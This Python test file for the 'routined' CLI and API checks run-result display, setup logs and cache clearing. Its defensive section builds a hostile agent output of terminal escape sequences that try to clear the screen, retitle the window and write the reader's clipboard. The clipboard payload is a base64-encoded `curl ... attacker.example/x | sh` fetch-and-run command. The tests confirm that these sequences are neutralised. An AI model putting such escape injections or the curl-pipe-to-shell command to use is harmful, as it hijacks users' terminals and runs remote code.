"""A run's results in the API and `routined show-run`, and `routined cache clear`.

The runs are made by `routined fire` and given their results directly in the store,
as a worker that finished them would; the commands run on SQLite and PostgreSQL.
What an agent wrote reaches the reader's terminal inert: tried with a run's results
written so, and end to end with a hostile agent CLI in the real sandbox.
"""

from __future__ import annotations

import asyncio
import io
import json
import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import update
from typer.testing import CliRunner, Result

from routined import runs
from routined.cli import app
from routined.config import Settings
from routined.db import Store
from routined.logview import SETUP_TAIL
from routined.models import Run, RunEvent
from tests.conftest import T0
from tests.test_management_api import Api, assert_error, make_api

runner = CliRunner()

BRANCHES = [
    {
        "repository": "app",
        "branch": "claude/nightly-a1",
        "sha": "0123456789abcdef0123456789abcdef01234567",
        "source": "agent",
        "files": 2,
        "insertions": 10,
        "deletions": 3,
    },
    # A branch pushed before the counts were recorded.
    {
        "repository": "lib",
        "branch": "claude/nightly-b2",
        "sha": "fedcba9876543210",
        "source": "agent",
    },
]
USAGE = {
    "input_tokens": 1234,
    "output_tokens": 567,
    "cache_read_input_tokens": 8901,
    "cache_creation_input_tokens": 12,
    "server_tool_use": {"web_search_requests": 0},
}


def run(*args: str) -> Result:
    return runner.invoke(app, list(args))


def ok(result: Result) -> str:
    assert result.exit_code == 0, f"exit {result.exit_code}: {result.output}"
    return result.stdout


def apply(tmp_path: Path, origin: Path, *names: str) -> None:
    path = tmp_path / "routines.yaml"
    path.write_text(
        "routines:\n"
        + "".join(
            f"  - {{name: {name}, prompt: Tidy up., repositories: [{{url: {origin}}}]}}\n"
            for name in names
        )
    )
    ok(run("apply", "-f", str(path)))


def fire(routine: str) -> str:
    run_id: str = json.loads(ok(run("fire", routine, "--json")))["run_id"]
    return run_id


def finish(url: str, run_id: str, **columns: Any) -> None:
    """Write the run's columns as its worker would have."""
    store = Store(url)
    try:
        with store.transaction() as session:
            session.execute(update(Run).where(Run.id == run_id).values(**columns))
    finally:
        store.dispose()


@pytest.fixture
def finished(database: str, tmp_path: Path, origin: Path) -> str:
    """A run of `nightly` that succeeded with every result; its id."""
    apply(tmp_path, origin, "nightly")
    run_id = fire("nightly")
    finish(
        database,
        run_id,
        status="succeeded",
        started_at=T0,
        finished_at=T0 + timedelta(minutes=4, seconds=12),
        summary="Updated the changelog from 3 merged pull requests.",
        branches=BRANCHES,
        diff_stat={"files": 3, "insertions": 12, "deletions": 4},
        usage=USAGE,
        cost_usd=0.123456,
    )
    return run_id


def test_the_api_answers_a_runs_results(finished: str) -> None:
    shown = json.loads(ok(run("show-run", finished, "--json")))
    assert shown["id"] == finished and shown["status"] == "succeeded"
    assert shown["summary"] == "Updated the changelog from 3 merged pull requests."
    assert shown["branches"] == BRANCHES  # every key kept, counts or not
    assert shown["diff_stat"] == {"files": 3, "insertions": 12, "deletions": 4}
    assert shown["usage"] == USAGE  # also what the agent reports beyond the known kinds
    assert shown["cost_usd"] == pytest.approx(0.123456)
    assert (shown["started_at"], shown["finished_at"]) == (
        "2026-11-28T12:00:00Z",
        "2026-11-28T12:04:12Z",
    )
    # `runs --json` is the same view, by session id as well as by run id.
    [listed] = json.loads(ok(run("runs", "--json")))
    assert listed == shown
    assert json.loads(ok(run("show-run", shown["session_id"], "--json"))) == shown


def test_show_run_prints_the_results(finished: str) -> None:
    shown = ok(run("show-run", finished))
    for line in (
        f"Run {finished}",
        "Status    succeeded",
        "Routine   nightly",
        "Trigger   manual",
        "Created   ",
        "Started   2026-11-28 12:00:00 UTC",
        "Finished  2026-11-28 12:04:12 UTC",
        "Duration  4 minutes 12 seconds",
        "Summary   Updated the changelog from 3 merged pull requests.",
        "claude/nightly-a1",
        "0123456789ab",
        "2 files, +10 -3",
        "claude/nightly-b2",
        "Changes   3 files, +12 -4",
        "Tokens    1,234 input, 567 output, 8,901 cache read, 12 cache write",
        "Cost      $0.1235",
    ):
        assert line in shown, f"{line!r} not in:\n{shown}"
    assert "Error" not in shown
    # The branch without counts shows none rather than zeros.
    [second] = [line for line in shown.splitlines() if "claude/nightly-b2" in line]
    assert "file" not in second


def test_show_run_of_a_failed_run_shows_its_error_and_omits_what_it_lacks(
    database: str, tmp_path: Path, origin: Path
) -> None:
    apply(tmp_path, origin, "nightly")
    run_id = fire("nightly")
    queued = ok(run("show-run", run_id))
    assert "Status    queued" in queued and "Started   —" in queued and "Finished  —" in queued
    for absent in ("Duration", "Error", "Summary", "Branches", "Changes", "Tokens", "Cost"):
        assert absent not in queued, absent
    finish(
        database,
        run_id,
        status="failed",
        started_at=T0,
        finished_at=T0 + timedelta(seconds=30),
        error="clone failed: app.git: repository not found",
        usage={"input_tokens": 10},
        cost_usd=0.0,
    )
    failed = ok(run("show-run", run_id))
    assert "Status    failed" in failed and "Duration  30 seconds" in failed
    assert "Error     clone failed: app.git: repository not found" in failed
    assert "Tokens    10 input" in failed and "Cost      $0.0000" in failed


def test_a_failed_setup_shows_the_end_of_its_output_in_show_run_and_logs(
    database: str, tmp_path: Path, origin: Path
) -> None:
    # Issue 16: `logs` said only "exited with status 1" and the error quoted pip's last
    # line (its hint); the cause was only in `logs --json`.
    apply(tmp_path, origin, "nightly")
    run_id = fire("nightly")
    said = [f"Collecting package {n}" for n in range(20)] + [
        "error: externally-managed-environment",
        "× This environment is externally managed",
        "hint: See PEP 668 for the detailed specification.",
    ]
    error = (
        "setup_failed: the setup script exited with status 1: "
        "error: externally-managed-environment (its output is in the run's events)"
    )
    finish(database, run_id, status="failed", started_at=T0, finished_at=T0, error=error)
    store = Store(database)
    try:
        with store.transaction() as session:
            session.add(
                RunEvent(
                    run_id=run_id,
                    seq=100,
                    at=T0,
                    kind="setup.output",
                    reason="the setup script exited with status 1 after 2.5 s",
                    data={
                        "exit_code": 1,
                        "seconds": 2.5,
                        "lines": said,
                        "error_line": "error: externally-managed-environment",
                    },
                )
            )
    finally:
        store.dispose()

    shown = ok(run("show-run", run_id))
    assert "Error     setup_failed: the setup script exited with status 1: error: " in shown
    assert "Setup     … 11 earlier lines (`routined logs --json`)" in shown
    for line in said[-SETUP_TAIL:]:
        assert line in shown, f"{line!r} not in:\n{shown}"
    assert "Collecting package 7\n" not in shown

    logged = ok(run("logs", run_id)).splitlines()
    [headline] = [n for n, line in enumerate(logged) if "setup.output" in line]
    assert logged[headline].endswith(
        "setup.output: the setup script exited with status 1 after 2.5 s: "
        "error: externally-managed-environment"
    )
    tail = logged[headline + 1 : headline + 2 + SETUP_TAIL]
    assert [line.split("│ ", 1)[1] for line in tail] == [
        "… 11 earlier lines (`routined logs --json`)",
        *said[-SETUP_TAIL:],
    ]
    # `--json` keeps all of it.
    [event] = [
        e
        for e in map(json.loads, ok(run("logs", run_id, "--json")).splitlines())
        if e["kind"] == "setup.output"
    ]
    assert event["data"]["lines"] == said


LONG_BRANCH = "claude/nightly-update-the-changelog-from-the-merged-pull-requests-a1b2c3d4"


def test_off_a_terminal_the_run_list_keeps_each_row_on_one_line(
    database: str, tmp_path: Path, origin: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Issue 16: piped, `runs` was cut at 80 columns and a branch name folded over lines.
    monkeypatch.delenv("COLUMNS", raising=False)
    apply(tmp_path, origin, "nightly")
    run_id = fire("nightly")
    error = "push_failed: " + "the remote said no to every branch it was offered " * 3
    branch = {"repository": "app", "branch": LONG_BRANCH, "sha": "0123456789abcdef"}
    finish(database, run_id, status="failed", branches=[branch], error=error.strip())
    listed = ok(run("runs")).splitlines()
    [row] = [line for line in listed if run_id in line]
    assert LONG_BRANCH in row and "nightly" in row and "failed" in row
    assert any(error.strip() in line for line in listed)
    shown = ok(run("show-run", run_id))
    assert any(LONG_BRANCH in line for line in shown.splitlines())


def test_on_a_terminal_the_width_is_richs_own() -> None:
    from rich.console import Console

    from routined.cli.common import _Output

    tty, wide = _Output(file=io.StringIO(), force_terminal=True), _Output(file=io.StringIO())
    assert tty.width == Console(file=io.StringIO(), force_terminal=True).width
    assert wide.width > 1000
    assert _Output(file=io.StringIO(), width=60).width == 60


def test_show_run_of_an_unknown_run_says_where_to_look(database: str) -> None:
    result = run("show-run", "run_nope")
    assert result.exit_code == 1
    assert "no run or session 'run_nope'; `routined runs` lists them" in result.output


# An agent's words drive no terminal. The attack: an agent's summary wrote the reader's
# clipboard through `routined show-run` (OSC 52, ended by ST), and cursor moves rewrote
# what was shown above.

CLIPBOARD = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNoCg==\x1b\\"
HOSTILE = (
    f"done\n{CLIPBOARD}"
    "\x1b[1A\x1b[2Kall good"  # up a line, erase it, write over it
    " \x1b[31mred\x1b[0m \x1b[H\x1b[2J"  # a colour; home and clear the screen
    " \x1b]0;retitled\x07 ring\x07"  # a window title ended by BEL; a BEL
    " \x9b2J \x9d52;c;QQ==\x9c \x90q\x9c \x85 \x7f\x08\r"  # C1's CSI, OSC, ST, DCS, NEL
)
# Every character that can drive a terminal: C0 but the line break, DEL, C1.
CONTROLS = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)]} - {"\n"}


def inert(output: str) -> str:
    """`output`, checked to hold no character that drives a terminal."""
    found = sorted({f"U+{ord(c):04X}" for c in output if c in CONTROLS})
    assert not found, f"{found} reach the terminal:\n{output!r}"
    return output


def add_events(url: str, run_id: str, *events: tuple[str, str | None, dict[str, Any]]) -> None:
    store = Store(url)
    try:
        with store.transaction() as session:
            for kind, reason, data in events:
                runs.add_event(session, run_id, kind, now=T0, reason=reason, data=data)
    finally:
        store.dispose()


@pytest.fixture
def hostile(database: str, tmp_path: Path, origin: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A failed run whose summary, error, branch and events an agent wrote; its id."""
    monkeypatch.setenv("COLUMNS", "1000")  # each field on a line of its own, not folded
    apply(tmp_path, origin, "nightly")
    run_id = fire("nightly")
    finish(
        database,
        run_id,
        status="failed",
        started_at=T0,
        finished_at=T0 + timedelta(seconds=30),
        summary=HOSTILE,
        error=f"agent_failed: {HOSTILE}",
        branches=[{"repository": "app", "branch": "claude/x\x9b2J\x9d0;t\x9c", "sha": "0" * 40}],
    )
    add_events(
        database,
        run_id,
        ("agent.assistant", None, {"content": [{"text": HOSTILE}]}),
        ("agent.output", None, {"lines": HOSTILE.splitlines()}),
        ("gate.passed", HOSTILE, {}),
    )
    return run_id


def test_show_run_shows_what_the_agent_wrote_inert(hostile: str) -> None:
    shown = inert(ok(run("show-run", hostile)))
    # Each control character is written as JSON would write it; the rest is as sent.
    for seen in (
        "\\u001b]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNoCg==\\u001b\\",
        "\\u001b[1A\\u001b[2Kall good",
        "\\u001b[31mred\\u001b[0m",
        "\\u001b]0;retitled\\u0007 ring\\u0007",
        "\\u009b2J \\u009d52;c;QQ==\\u009c \\u0090q\\u009c \\u0085 \\u007f\\u0008\\u000d",
        "claude/x\\u009b2J\\u009d0;t\\u009c",
    ):
        assert seen in shown, f"{seen!r} not in:\n{shown}"
    # Summary and error keep their line breaks: "done", then the rest on a line of its own.
    for field in ("Summary   done", "Error     agent_failed: done"):
        assert re.search(f"{field} *│\n", shown), f"{field!r} not on its own line:\n{shown}"


def test_the_run_list_and_the_logs_show_it_inert_too(hostile: str) -> None:
    listed = inert(ok(run("runs")))
    assert "\\u001b]52;c;" in listed and "claude/x\\u009b2J" in listed
    logged = inert(ok(run("logs", hostile)))
    assert logged.count("\\u001b]52;c;") == 3  # the assistant's text, its output, a reason
    assert "\\u009d52;c;QQ==\\u009c" in logged


def test_json_output_is_exact_and_inert(hostile: str) -> None:
    shown = json.loads(inert(ok(run("show-run", hostile, "--json"))))
    assert shown["summary"] == HOSTILE and shown["error"] == f"agent_failed: {HOSTILE}"
    [listed] = json.loads(inert(ok(run("runs", "--json"))))
    assert listed == shown
    logged = [json.loads(line) for line in inert(ok(run("logs", hostile, "--json"))).splitlines()]
    assert logged[-3]["data"] == {"content": [{"text": HOSTILE}]}
    assert logged[-1]["reason"] == HOSTILE


@pytest.mark.agent
def test_a_hostile_agent_cli_cannot_drive_the_readers_terminal(
    settings: Settings, origin: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack itself: an agent CLI in the real sandbox says its last words with
    escape sequences, and commits on a branch whose name holds C1 controls."""
    from tests.test_agent_runs import routined, run_here

    monkeypatch.setenv("COLUMNS", "1000")  # the commands' output, not folded

    script = (
        "import subprocess, sys\n"
        "git = ['git', '-c', 'user.name=A', '-c', 'user.email=a@b']\n"
        "subprocess.run([*git, 'checkout', '-q', '-b', 'claude/x\\x9b2J'], check=True)\n"
        "open('hi.txt', 'w').write('hi')\n"
        "subprocess.run([*git, 'add', 'hi.txt'], check=True)\n"
        "subprocess.run([*git, 'commit', '-qm', 'hi'], check=True)\n"
        f"sys.stdout.write({HOSTILE!r})\n"
    )
    path = tmp_path / "routines.yaml"
    path.write_text(
        "routines:\n"
        "  - name: esc\n"
        "    prompt: Report.\n"
        f"    repositories: [{{url: {origin}}}]\n"
        f"    agent: {{command: [python3, -c, {json.dumps(script)}]}}\n"
    )
    applied = routined(settings, "apply", "-f", str(path), check=False)
    assert applied.returncode == 0, applied.stdout + applied.stderr
    store = Store(settings.database_url.reveal())
    try:
        ended = asyncio.run(run_here(settings, store, "esc", None))
    finally:
        store.dispose()
    assert ended.status == "succeeded", ended.error
    assert ended.summary is not None and CLIPBOARD in ended.summary
    assert any("\x9b" in branch["branch"] for branch in ended.branches), ended.branches
    for command in (["show-run", ended.id], ["runs"], ["logs", ended.id]):
        shown = inert(routined(settings, *command).stdout)
        assert "\\u001b]52;c;" in shown or command == ["runs"], shown
        assert "\\u009b2J" in shown, shown
    assert json.loads(routined(settings, "show-run", ended.id, "--json").stdout)["summary"] == (
        ended.summary
    )


# The setup cache


def cache_of(routine: str) -> Path:
    routine_id: str = json.loads(ok(run("show", routine, "--json")))["id"]
    return Settings.from_env().home / "setup-cache" / routine_id


def fill(folder: Path, entries: int) -> None:
    for number in range(entries):
        entry = folder / f"entry-{number}"
        (entry / "files").mkdir(parents=True)
        (entry / "files" / "node_modules.tar").write_bytes(b"cached")


def test_cache_clear_removes_the_routines_cached_setup_results(
    database: str, tmp_path: Path, origin: Path
) -> None:
    apply(tmp_path, origin, "nightly", "weekly")
    nightly, weekly = cache_of("nightly"), cache_of("weekly")
    fill(nightly, 3)
    fill(weekly, 1)
    (nightly / "a-stray-file").write_text("not an entry")
    (nightly / ".partial-0a1b2c").mkdir()  # a result still being written

    said = ok(run("cache", "clear", "nightly"))
    assert said.strip() == "nightly: removed 3 cached setup results"
    assert not nightly.exists()
    assert [p.name for p in nightly.parent.iterdir()] == [weekly.name]  # nothing left aside
    assert [p.name for p in weekly.iterdir()] == ["entry-0"]

    again = ok(run("cache", "clear", "nightly"))
    assert again.strip() == "nightly: no cached setup results to remove"
    assert ok(run("cache", "clear", "weekly")).strip() == "weekly: removed 1 cached setup result"
    unknown = run("cache", "clear", "ghost")
    assert unknown.exit_code == 1 and "no routine named 'ghost'" in unknown.output


@pytest.fixture
def api(store: Store, tmp_path: Path) -> Iterator[Api]:
    yield from make_api(store, tmp_path, tmp_path)


def test_cache_clear_needs_write_and_stays_in_the_account(api: Api) -> None:
    api.account("acme")
    api.account("beta")
    writer, reader, other = api.key("acme", "write"), api.key("acme", "read"), api.key("beta")
    api.apply(writer, api.routine("acme-nightly"))
    routine_id = api.ok("GET", "/routines/acme-nightly", writer)["id"]
    folder = api.settings.home / "setup-cache" / routine_id
    fill(folder, 2)
    path = "/routines/acme-nightly/setup-cache"

    assert_error(api.call("DELETE", path, reader), 403, "permission_error", "this needs write")
    assert_error(
        api.call("DELETE", path, other), 404, "not_found_error", "no routine named 'acme-nightly'"
    )
    assert folder.exists()
    assert api.ok("DELETE", path, writer) == {"routine": "acme-nightly", "cleared": 2}
    assert not folder.exists()
    assert api.ok("DELETE", path, writer) == {"routine": "acme-nightly", "cleared": 0}
